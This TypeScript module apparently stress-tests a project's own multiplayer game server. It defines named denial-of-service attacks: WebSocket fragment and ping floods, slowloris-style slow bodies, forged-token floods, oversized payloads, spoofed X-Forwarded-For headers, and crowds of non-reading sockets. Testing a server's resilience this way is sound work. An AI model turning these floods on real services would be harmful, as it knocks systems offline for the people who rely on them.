import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { WebSocket } from 'ws';
import { guest } from '../server/sides.ts';

/** Something under way; what it came to. */
interface Attack {
  stop(): string;
}

/** Whom to attack. */
export interface Target {
  readonly url: string;
  /** Where the attack says it comes from, as a proxy would. */
  readonly from: { readonly 'x-forwarded-for': string };
  /** A table whose log is dear to read. */
  readonly rewound: string;
}

const AT_ONCE = 10;

/** So many at once, each again and again, after a pause where there is one. */
function flood(what: string, one: () => Promise<unknown>, atOnce = AT_ONCE, pauseMs = 0): Attack {
  let count = 0;
  const state = { stopped: false };
  const loop = async () => {
    while (!state.stopped) {
      await one().catch(() => sleep(5));
      count++;
      if (pauseMs > 0) await sleep(pauseMs);
    }
  };
  for (let i = 0; i < atOnce; i++) void loop();
  return {
    stop: () => {
      state.stopped = true;
      return `${count.toLocaleString('en')} ${what}`;
    },
  };
}

const get = async (url: string, headers: Record<string, string>) => (await fetch(url, { headers })).arrayBuffer();

function frame(opcode: number, final: boolean, payload: Buffer): Buffer {
  const { length } = payload;
  const size = length < 126 ? [0x80 | length] : [0x80 | 126, length >> 8, length & 255];
  // A mask of zeros leaves everything as it is.
  return Buffer.concat([Buffer.from([(final ? 0x80 : 0) | opcode, ...size, 0, 0, 0, 0]), payload]);
}

/** A socket opened by hand, into which so much is written as often as a second has hundredths, and again where it is closed. */
function pour(target: Target, cookie: string, first: Buffer, more: Buffer): Attack {
  const { hostname, port, host } = new URL(target.url);
  let sent = 0;
  const state = { stopped: false };
  const attack = async () => {
    const socket = connect(Number(port), hostname);
    socket.on('error', () => {});
    socket.resume();
    socket.write(
      `GET /api/socket HTTP/1.1\r\nHost: ${host}\r\nX-Forwarded-For: ${target.from['x-forwarded-for']}\r\nCookie: ${cookie}\r\n` +
        'Connection: Upgrade\r\nUpgrade: websocket\r\n' +
        'Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n',
    );
    socket.write(first);
    while (!state.stopped && !socket.destroyed) {
      if (socket.writableLength < MOST_UNREAD) {
        socket.write(more);
        sent += more.length;
      }
      await sleep(10);
    }
    socket.destroy();
  };
  void (async () => {
    while (!state.stopped) await attack();
  })();
  return {
    stop: () => {
      state.stopped = true;
      return `${(sent / 1e6).toFixed(1)} MB`;
    },
  };
}

const MOST_UNREAD = 4_000_000;
const frames = (count: number, one: Buffer) => Buffer.concat(Array.from({ length: count }, () => one));
const NOTHING = Buffer.alloc(0);

/** An unfinished message of 40 kB, then empty parts of it, a megabyte a second. */
async function fragments(target: Target): Promise<Attack> {
  const cookie = await guest(target.url, 'Mallory', target.from);
  return pour(target, cookie, frame(1, false, Buffer.alloc(40_000, 32)), frames(1700, frame(0, false, NOTHING)));
}

/** Pings, which have to be answered, a megabyte a second. */
const pings = (target: Target): Attack => pour(target, '', NOTHING, frames(1700, frame(9, true, NOTHING)));

function act(ws: WebSocket, table: string, after: number, action: object): Promise<number> {
  const key = randomBytes(9).toString('base64url');
  return new Promise((resolve) => {
    const hear = (data: Buffer) => {
      const message = JSON.parse(data.toString()) as { key?: string; n?: number };
      if (message.key !== key) return;
      ws.off('message', hear);
      resolve(message.n ?? after);
    };
    ws.on('message', hear);
    ws.send(JSON.stringify({ type: 'act', table, after, key, action }));
  });
}

/** A match of one's own, under way, with the socket of who plays it. */
async function ownTable({ url, from }: Target, cookie: string): Promise<{ table: string; player: WebSocket }> {
  const headers = { ...from, cookie, 'content-type': 'application/json' };
  const body = JSON.stringify({ key: 'a table of mine', game: 'grand-prix', seats: 1 });
  const made = await fetch(`${url}/api/tables`, { method: 'POST', headers, body });
  const { id: table } = (await made.json()) as { id: string };
  const player = socketTo(url, { ...from, cookie });
  await once(player, 'open');
  await act(player, table, 0, { type: 'sit' });
  await act(player, table, 1, { type: 'start' });
  return { table, player };
}

/** A move, and back again unless it is to stay. */
async function moveAndBack(
  url: string,
  table: string,
  player: WebSocket,
  headers: Record<string, string>,
  stays = false,
) {
  const asked = await fetch(`${url}/api/tables/${table}/moves`, { headers });
  const { after, moves } = (await asked.json()) as { after?: number; moves?: object[] };
  if (!moves?.[0]) return;
  const n = await act(player, table, after ?? 0, { type: 'play', event: moves[0] });
  const latest = (await (await fetch(`${url}/api/tables/${table}?after=1000000`, { headers })).json()) as {
    n?: number;
  };
  if (!stays) await act(player, table, latest.n ?? n, { type: 'ask-back' });
}

/** A table whose log is dear to read: as many take-backs as the limits let one person have in a minute. */
export async function rewoundTable(target: Target): Promise<string> {
  const { url, from } = target;
  const cookie = await guest(url, 'Mallory', from);
  const { table, player } = await ownTable(target, cookie);
  for (let i = 0; i < 120; i++) await moveAndBack(url, table, player, { ...from, cookie }, i % 8 === 0);
  player.close();
  return table;
}

const LARGE = JSON.stringify({ name: 'x'.repeat(390_000) });

const socketTo = (url: string, headers: Record<string, string>) => {
  const ws = new WebSocket(`${url.replace('http', 'ws')}/api/socket`, { headers });
  ws.on('error', () => {});
  return ws;
};

/** Messages of 390 kB over a socket, ten megabytes a second, by nobody in particular. */
function messages({ url, from }: Target): Attack {
  let ws = socketTo(url, from);
  const say = async () => {
    if (ws.readyState > 1) ws = socketTo(url, from);
    if (ws.readyState === 1 && ws.bufferedAmount < 4_000_000) ws.send(LARGE);
  };
  return flood('messages of 390 kB', say, 1, 39);
}

/** A request whose answer nobody waits for. */
async function askAndLeave({ url, from }: Target): Promise<void> {
  const { hostname, port, host } = new URL(url);
  const socket = connect(Number(port), hostname);
  socket.on('error', () => {});
  await once(socket, 'connect');
  socket.write(`GET /api/tables HTTP/1.1\r\nHost: ${host}\r\nX-Forwarded-For: ${from['x-forwarded-for']}\r\n\r\n`);
  await sleep(5);
  socket.destroy();
}

/** A body of a thousand bytes, one a second. */
async function drip({ url, from }: Target): Promise<void> {
  const { hostname, port, host } = new URL(url);
  const socket = connect(Number(port), hostname);
  socket.on('error', () => {});
  socket.resume();
  socket.write(
    `POST /api/session HTTP/1.1\r\nHost: ${host}\r\nX-Forwarded-For: ${from['x-forwarded-for']}\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n`,
  );
  while (!socket.destroyed) {
    socket.write(' ');
    await sleep(1_000);
  }
}

/** A table of one's own, played and taken back as fast as one may, with as many sockets that follow it as an address may have. */
async function crowd(target: Target, reads: boolean): Promise<Attack> {
  const { url, from } = target;
  const cookie = await guest(url, 'Crowd', from);
  const { table, player } = await ownTable(target, cookie);
  const watchers = Array.from({ length: WATCHERS }, () => socketTo(url, from));
  for (const ws of watchers) {
    ws.on('open', () => {
      ws.send(JSON.stringify({ type: 'follow', table }));
      if (!reads) ws.pause();
    });
  }
  const headers = { ...from, cookie };
  const acting = flood(
    `actions before ${WATCHERS} ${reads ? 'watchers' : 'who do not read'}`,
    () => moveAndBack(url, table, player, headers),
    1,
    150,
  );
  return {
    stop: () => {
      for (const ws of [...watchers, player]) ws.terminate();
      return acting.stop();
    },
  };
}

const WATCHERS = 190;

/** What somebody may do to everybody else; each in a process of its own. */
export const ATTACKS: { readonly [name: string]: (target: Target) => Attack | Promise<Attack> } = {
  fragments,
  pings,
  messages,
  tokens: ({ url, from }) =>
    flood('forged tokens', () =>
      get(`${url}/api/me`, { ...from, authorization: `Bearer ${randomBytes(24).toString('base64url')}` }),
    ),
  'dear log': ({ url, from, rewound }) =>
    flood('reads of a log with take-backs', () => get(`${url}/api/tables/${rewound}`, from)),
  past: ({ url, from, rewound }) =>
    flood('reads of its hundred first views', () => get(`${url}/api/tables/${rewound}/past?from=0&to=99`, from)),
  lists: ({ url, from }) => flood('reads of all lists', () => get(`${url}/api/tables`, from)),
  pages: ({ url, from }) => flood('reads of a page that is not there', () => get(`${url}/nowhere`, from), 100),
  impatience: (target) => flood('requests that wait for no answer', () => askAndLeave(target)),
  bodies: ({ url, from }) =>
    flood('bodies of 390 kB', async () => {
      const headers = { ...from, 'content-type': 'application/json' };
      await (await fetch(`${url}/api/session`, { method: 'POST', headers, body: LARGE })).arrayBuffer();
    }),
  'slow bodies': (target) => flood('bodies that drip in', () => drip(target), WATCHERS),
  sockets: ({ url, from }) =>
    flood('sockets opened and left', async () => {
      const ws = socketTo(url, from);
      await once(ws, 'open').catch(() => {});
      ws.terminate();
    }),
  waits: ({ url, from, rewound }) =>
    flood('requests that wait', () => get(`${url}/api/tables/${rewound}/wait?after=1000000`, from), WATCHERS),
  watchers: (target) => crowd(target, true),
  'slow readers': (target) => crowd(target, false),
};
